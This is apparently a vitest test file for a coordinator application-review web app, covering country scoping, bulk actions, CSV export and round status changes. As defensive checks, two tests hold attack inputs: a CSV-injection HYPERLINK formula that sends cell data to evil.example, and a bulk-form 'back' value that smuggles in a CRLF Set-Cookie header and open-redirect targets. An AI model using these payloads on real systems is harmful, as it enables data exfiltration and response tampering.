import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeTestRound, seedApplication, seedRound } from '../../../../tests/support/review-fixtures';
import { signInAs, signOut } from '../../../../tests/support/sign-in';
import { createTestApp, type TestApp } from '../../../../tests/support/test-app';

/**
 * The review pages and the JSON API over HTTP: country scope by URL, bulk actions, the CSV export
 * and the round pages, on a fresh database (SQLite and PostgreSQL).
 */
let t: TestApp;

beforeAll(async () => {
  t = await createTestApp({ now: new Date('2026-02-01T09:00:00Z') });
  await t.ctx.services.people.createCoordinator({
    email: 'lead@example.org',
    name: 'Lead',
    countryCodes: [],
    actorPersonId: null,
  });
  await t.ctx.services.people.createCoordinator({
    email: 'kenya@example.org',
    name: 'Wanjiru',
    countryCodes: ['KE'],
    actorPersonId: null,
  });
  const db = t.database.db;
  await seedRound(db, { id: 'round-a' });
  await seedApplication(db, { roundId: 'round-a', id: 'ke-1', name: 'Achieng Otieno', country: 'KE' });
  await seedApplication(db, {
    roundId: 'round-a',
    id: 'ke-2',
    name: 'Baraka Mwangi',
    country: 'KE',
    answers: { sector: 'public' },
  });
  await seedApplication(db, { roundId: 'round-a', id: 'ng-1', name: 'Chinedu Eze', country: 'NG' });
  await seedApplication(db, {
    roundId: 'round-a',
    id: 'br-1',
    name: 'José Araújo',
    country: 'BR',
    answers: { role: 'Archivist' },
  });
});
afterAll(async () => {
  await t.dispose();
});

describe('a country coordinator', () => {
  beforeAll(async () => {
    signOut(t);
    await signInAs(t, 'kenya@example.org');
  });

  test('sees what the close would do to the quota, for their country only, without anything changing', async () => {
    // A round whose cap is 1 place per country: Kenya and Nigeria are over it.
    await seedRound(t.database.db, {
      id: 'round-q',
      quota: { enabled: true, capPercent: 20, minimumPlaces: 1 },
    });
    for (const [id, country] of [
      ['q-ke-1', 'KE'],
      ['q-ke-2', 'KE'],
      ['q-ke-3', 'KE'],
      ['q-ng-1', 'NG'],
      ['q-ng-2', 'NG'],
    ] as const) {
      await seedApplication(t.database.db, { roundId: 'round-q', id, name: `Person ${id}`, country });
    }

    const page = await (await t.request('/coordinator/rounds/round-q/applications/counts')).text();
    const section = page.slice(page.indexOf('id="quota-preview"'));
    expect(section).toContain('each country could hold 1 places');
    // Each count links to the list it counts: Kenya's pending applications.
    expect(section).toMatch(
      /<a href="\/coordinator\/rounds\/round-q\/applications\?country=KE&amp;status=pending">Kenya<\/a><\/t[hd]>\s*<td[^>]*><a[^>]*>2</,
    );
    expect(section).not.toContain('Nigeria');
    const statuses = await t.database.db
      .selectFrom('applications')
      .select('status')
      .where('round_id', '=', 'round-q')
      .execute();
    expect(statuses.every((row) => row.status === 'pending')).toBe(true);
    await t.database.db.deleteFrom('applications').where('round_id', '=', 'round-q').execute();
  });

  test('sees only their country in the list and counts', async () => {
    const response = await t.request('/coordinator/rounds/round-a/applications');
    expect(response.status).toBe(200);
    const page = await response.text();
    expect(page).toContain('Achieng Otieno');
    expect(page).toContain('Baraka Mwangi');
    expect(page).not.toContain('Chinedu Eze');
    expect(page).not.toContain('Araújo');
    expect(page).toContain('2 applications match.');
    const counts = await (await t.request('/coordinator/rounds/round-a/applications/counts')).text();
    expect(counts).toContain('2 applications');
    expect(counts).not.toContain('Nigeria');
  });

  test('gets a 404 for another country’s application by URL, in pages, actions and the API', async () => {
    const detail = await t.request('/coordinator/rounds/round-a/applications/ng-1');
    expect(detail.status).toBe(404);
    expect(await detail.text()).not.toContain('Chinedu');
    const review = await t.postForm('/coordinator/rounds/round-a/applications/ng-1/review', {
      action: 'accept',
    });
    expect(review.status).toBe(404);
    const note = await t.postForm('/coordinator/rounds/round-a/applications/ng-1/notes', { body: 'hello' });
    expect(note.status).toBe(404);
    const api = await t.request('/api/rounds/round-a/applications/ng-1');
    expect(api.status).toBe(404);
    expect(await api.json()).toEqual({
      error: { code: 'NOT_FOUND', reason: 'application.notInRound', message: expect.any(String) },
    });
    const status = await t.database.db
      .selectFrom('applications')
      .select('status')
      .where('id', '=', 'ng-1')
      .executeTakeFirst();
    expect(status?.status).toBe('pending');
  });

  test('cannot use program-coordinator pages (403)', async () => {
    expect((await t.request('/coordinator/rounds/round-a')).status).toBe(403);
    expect((await t.request('/coordinator/rounds/round-a/imports/new')).status).toBe(403);
    expect((await t.request('/coordinator/rounds/round-a/waitlist')).status).toBe(403);
    expect((await t.postForm('/coordinator/rounds/round-a/status', { to: 'closed' })).status).toBe(403);
  });

  test('the JSON API lists only their country', async () => {
    const response = await t.request('/api/rounds/round-a/applications');
    expect(response.status).toBe(200);
    const body = (await response.json()) as { applications: ({ id: string } & Record<string, unknown>)[] };
    expect(body).toMatchObject({ round: { id: 'round-a' }, page: 1, pageSize: 50, total: 2 });
    expect(body.applications.map((a: { id: string }) => a.id)).toEqual(['ke-1', 'ke-2']);
    expect(Object.keys(body.applications[0] ?? {}).sort()).toEqual([
      'careerStage',
      'countryCode',
      'declineReason',
      'email',
      'id',
      'isLikelyDuplicate',
      'name',
      'role',
      'sector',
      'status',
      'submittedAt',
    ]);
    const nigeria = (await (await t.request('/api/rounds/round-a/applications?country=NG')).json()) as {
      total: number;
    };
    expect(nigeria.total).toBe(0);
  });

  test('the CSV export has only their country', async () => {
    const response = await t.request('/coordinator/rounds/round-a/applications/export.csv');
    const text = await response.text();
    expect(text).toContain('Achieng Otieno');
    expect(text).not.toContain('Chinedu');
  });

  test('a bulk action changes only applications in scope', async () => {
    const response = await t.postForm('/coordinator/rounds/round-a/applications/bulk', {
      ids: ['ke-1', 'ng-1'],
      action: 'accept',
      back: '',
    });
    expect(response.status).toBe(303);
    const rows = await t.database.db
      .selectFrom('applications')
      .select(['id', 'status'])
      .orderBy('id')
      .execute();
    expect(Object.fromEntries(rows.map((row) => [row.id, row.status]))).toEqual({
      'br-1': 'pending',
      'ke-1': 'accepted',
      'ke-2': 'pending',
      'ng-1': 'pending',
    });
    const mail = await t.database.db
      .selectFrom('mail_messages')
      .selectAll()
      .where('kind', '=', 'application-accepted')
      .execute();
    expect(mail.map((m) => m.to_address)).toEqual(['achieng.otieno@example.org']);
    expect(mail[0]?.text_body).toContain('partners are introduced when the round starts'.replace(/^p/, 'P'));
    const audit = await t.database.db
      .selectFrom('audit_log')
      .selectAll()
      .where('action', '=', 'application.accept')
      .execute();
    expect(audit.map((a) => a.subject_id)).toEqual(['ke-1']);
    expect(JSON.parse(audit[0]!.details)).toMatchObject({ via: 'bulk', from: 'pending', to: 'accepted' });
  });
});

describe('a program coordinator', () => {
  beforeAll(async () => {
    signOut(t);
    await signInAs(t, 'lead@example.org');
  });

  test('closing a round settles the quota and says so', async () => {
    const db = t.database.db;
    await seedRound(db, { id: 'round-c', quota: { enabled: true, capPercent: 20, minimumPlaces: 1 } });
    for (const [id, country] of [
      ['c-ke-1', 'KE'],
      ['c-ke-2', 'KE'],
      ['c-ng-1', 'NG'],
      ['c-br-1', 'BR'],
      ['c-pe-1', 'PE'],
    ] as const) {
      await seedApplication(db, { roundId: 'round-c', id, name: `Person ${id}`, country });
    }
    const moved = await t.postForm('/coordinator/rounds/round-c/status', { to: 'closed' });
    expect(moved.status).toBe(303);
    const page = await (await t.request(moved.headers.get('location')!)).text();
    expect(page).toContain('The country quota is settled: 1 applicant beyond their country&#39;s cap of 1');
    const statuses = await db
      .selectFrom('applications')
      .select(['id', 'status'])
      .where('round_id', '=', 'round-c')
      .orderBy('id')
      .execute();
    expect(statuses.filter((row) => row.status === 'waitlisted').map((row) => row.id)).toEqual(['c-ke-2']);
    await db.deleteFrom('mail_messages').execute();
    await db.deleteFrom('applications').where('round_id', '=', 'round-c').execute();
  });

  test('sees every country, filters, searches and sorts', async () => {
    const all = await (await t.request('/coordinator/rounds/round-a/applications')).text();
    for (const name of ['Achieng Otieno', 'Baraka Mwangi', 'Chinedu Eze', 'José Araújo'])
      expect(all).toContain(name);
    const api = async (query: string) =>
      (
        (await (await t.request(`/api/rounds/round-a/applications${query}`)).json()) as {
          applications: { id: string }[];
        }
      ).applications.map((a) => a.id);
    expect(await api('?sector=public')).toEqual(['ke-2']);
    expect(await api('?q=ARCHIV')).toEqual(['br-1']);
    expect(await api('?q=eze')).toEqual(['ng-1']);
    expect(await api('?status=accepted')).toEqual(['ke-1']);
    expect(await api('?sort=country')).toEqual(['br-1', 'ke-1', 'ke-2', 'ng-1']);
    expect(await api('?sort=name')).toEqual(['ke-1', 'ke-2', 'ng-1', 'br-1']);
  });

  test('exports CSV with a byte-order mark, headers and one row per application', async () => {
    const response = await t.request('/coordinator/rounds/round-a/applications/export.csv?country=BR');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="applications-2026-march-round.csv"',
    );
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = new TextDecoder().decode(bytes.slice(3)).trim().split('\r\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^Application id,Submitted at,Status,Name,Email,Country code,Country,/);
    expect(lines[1]).toContain('José Araújo');
    expect(lines[1]).toContain('Brazil');
    expect(lines[1]).toContain('Information technology; Open access');
  });

  test('a formula typed into the form is exported as text, and the list and import pages say so', async () => {
    await seedApplication(t.database.db, {
      roundId: 'round-a',
      id: 'br-formula',
      name: '=HYPERLINK("http://evil.example/?x="&B2,"Click me")',
      email: 'formula@example.org',
      country: 'BR',
      answers: { role: '@SUM(1+1)', hopes: '-2+3' },
    });
    try {
      const response = await t.request('/coordinator/rounds/round-a/applications/export.csv?country=BR');
      const text = await response.text();
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&B2,""Click me"")"`);
      expect(text).toContain("'@SUM(1+1)");
      expect(text).toContain("'-2+3");
      expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
      const note = 'are written with an apostrophe in front';
      expect(await (await t.request('/coordinator/rounds/round-a/applications')).text()).toContain(note);
      expect(await (await t.request('/coordinator/rounds/round-a/imports/new')).text()).toContain(
        'removes that apostrophe',
      );
    } finally {
      await t.database.db.deleteFrom('applications').where('id', '=', 'br-formula').execute();
    }
  });

  test('the bulk form’s way back is rebuilt from known filters: a line break or a foreign value cannot reach the redirect', async () => {
    const response = await t.postForm('/coordinator/rounds/round-a/applications/bulk', {
      ids: ['br-1'],
      action: 'accept',
      back: '?country=BR&q=a\r\nSet-Cookie: x=1&next=//evil.example&status=nonsense',
    });
    expect(response.status).toBe(303);
    expect(response.headers.get('location')).toBe(
      '/coordinator/rounds/round-a/applications?q=a%0D%0ASet-Cookie%3A+x%3D1&country=BR',
    );
    // (A NUL anywhere in a request is refused before any route, with a 400: form-body.ts.)
    for (const back of ['//evil.example', 'https://evil.example', '?%00', '\n']) {
      const other = await t.postForm('/coordinator/rounds/round-a/applications/bulk', {
        ids: ['br-1'],
        action: 'accept',
        back,
      });
      expect(other.status).toBe(303);
      expect(other.headers.get('location')).toBe('/coordinator/rounds/round-a/applications');
    }
  });

  test('coordinator pages, the CSV and the JSON API are never stored by caches', async () => {
    for (const path of [
      '/coordinator',
      '/coordinator/rounds',
      '/coordinator/rounds/round-a/applications',
      '/coordinator/rounds/round-a/applications/br-1',
      '/coordinator/rounds/round-a/applications/counts',
      '/coordinator/rounds/round-a/applications/export.csv',
      '/coordinator/rounds/round-a/imports/new',
      '/api/rounds/round-a/applications',
    ]) {
      const response = await t.request(path);
      expect(response.status, path).toBe(200);
      expect(response.headers.get('cache-control'), path).toMatch(/\bno-store\b/);
    }
  });

  test('declines with a required reason and sees the reason and a note on the detail page', async () => {
    const missing = await t.postForm('/coordinator/rounds/round-a/applications/ng-1/review', {
      action: 'decline',
    });
    expect(missing.status).toBe(422);
    expect(await missing.text()).toContain('Give a reason for declining');
    const declined = await t.postForm('/coordinator/rounds/round-a/applications/ng-1/review', {
      action: 'decline',
      declineReason: 'Applied twice under two addresses',
    });
    expect(declined.status).toBe(303);
    await t.postForm('/coordinator/rounds/round-a/applications/ng-1/notes', {
      body: 'Spoke to them on the phone.',
    });
    const page = await (await t.request('/coordinator/rounds/round-a/applications/ng-1')).text();
    expect(page).toContain('Reason for declining: Applied twice under two addresses');
    expect(page).toContain('Spoke to them on the phone.');
    expect(page).toContain('Lead,');
    const mail = await t.database.db
      .selectFrom('mail_messages')
      .selectAll()
      .where('kind', '=', 'application-declined')
      .execute();
    expect(mail).toHaveLength(1);
    expect(mail[0]?.text_body).not.toContain('Applied twice');
  });

  test('creates a round, sees the refusal for an illegal move as a message, and moves it on', async () => {
    const form = {
      name: '2026 September round',
      programTimeZone: 'Australia/Sydney',
      applicationsOpenOn: '2026-07-01',
      applicationsOpenTime: '09:00',
      applicationsCloseOn: '2026-08-20',
      applicationsCloseTime: '23:59',
      startsOn: '2026-09-01',
      endsOn: '',
      quotaEnabled: 'on',
      quotaCapPercent: '20',
      quotaMinimumPlaces: '5',
    };
    const bad = await t.postForm('/coordinator/rounds', { ...form, name: '' });
    expect(bad.status).toBe(422);
    const created = await t.postForm('/coordinator/rounds', form);
    expect(created.status).toBe(303);
    const location = created.headers.get('location') ?? '';
    const round = await t.database.db
      .selectFrom('rounds')
      .selectAll()
      .where('name', '=', '2026 September round')
      .executeTakeFirstOrThrow();
    expect(location).toBe(`/coordinator/rounds/${round.id}`);
    expect(round).toMatchObject({
      status: 'draft',
      ends_on: '2027-01-01',
      applications_open_at: '2026-06-30T23:00:00.000Z',
    });

    const illegal = await t.postForm(`/coordinator/rounds/${round.id}/status`, { to: 'finished' });
    expect(illegal.status).toBe(303);
    const refusal = await (await t.request(location)).text();
    expect(refusal).toContain(
      'cannot move to “Finished”: a round that is “Draft” can only become “Open for applications”',
    );

    const opened = await t.postForm(`/coordinator/rounds/${round.id}/status`, { to: 'open' });
    expect(opened.status).toBe(303);
    const page = await (await t.request(location)).text();
    expect(page).toContain('is now: Open for applications');
    expect(page).toContain('Close applications');
  });
});

test('a signed-out API request is 401 JSON and a page redirects to sign-in', async () => {
  signOut(t);
  const api = await t.request('/api/rounds/round-a/applications');
  expect(api.status).toBe(401);
  expect(((await api.json()) as { error: { code: string } }).error.code).toBe('UNAUTHENTICATED');
  const page = await t.request('/coordinator/rounds/round-a/applications');
  expect(page.status).toBe(303);
  expect(makeTestRound().id).toBe('round-a');
});
